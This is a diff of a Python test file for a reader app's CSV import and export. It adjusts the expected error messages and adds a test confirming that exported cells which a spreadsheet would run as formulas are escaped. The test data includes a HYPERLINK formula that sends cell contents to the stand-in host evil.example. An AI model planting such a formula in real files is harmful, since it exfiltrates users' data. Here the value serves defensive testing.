@@ -239,10 +239,10 @@ def test_empty_file_holds_nothing_and_no_problems(tmp_path: Path, suffix: str) -
 
 def test_unreadable_and_binary_files_raise_one_line(tmp_path: Path) -> None:
     missing = tmp_path / "missing.csv"
-    with pytest.raises(ExamplesFileError, match="Cannot read") as info:
+    with pytest.raises(ExamplesFileError, match="does not exist") as info:
         read_examples(missing)
     assert "\n" not in str(info.value)
-    with pytest.raises(ExamplesFileError, match="Cannot read"):
+    with pytest.raises(ExamplesFileError, match="is a folder, not a file"):
         read_examples(tmp_path)  # a directory
     binary = tmp_path / "picture.csv"
     binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
@@ -267,3 +267,33 @@ def test_emotion_cells() -> None:
         parse_emotions("joy:nan")
     with pytest.raises(ValueError, match="between 0 and 1"):
         parse_emotions("joy:-0.1")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    import csv
+
+    from reader_app.core.exporters.readwise import defuse
+
+    hostile = Example(
+        excerpt='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        tone="+Scornful",
+        explanation="-1 is how much he cared",
+        source="@SUM(1+1)",
+        tags=("-dash", "=x"),
+    )
+    plain = Example("'Tis the season", "Cheerful", source="'=quoted, not run")
+    path = tmp_path / "out.csv"
+    write_examples(path, [hostile, plain])
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["excerpt"] == "'" + hostile.excerpt
+    assert rows[0]["tone"] == "'+Scornful"
+    assert rows[0]["explanation"] == "'-1 is how much he cared"
+    assert rows[0]["source"] == "'@SUM(1+1)"
+    assert rows[0]["tags"] == "'-dash;=x"  # one cell: only its start counts
+    for row in rows:  # no cell starts a formula
+        assert all(defuse(cell) == cell for cell in row.values())
+    assert rows[1]["excerpt"] == "'Tis the season"  # not touched: no formula
+    assert rows[1]["source"] == "''=quoted, not run"  # one more, taken off on import
+    # Importing the export gives back the examples exactly as they were.
+    assert read_examples(path).examples == [hostile, plain]
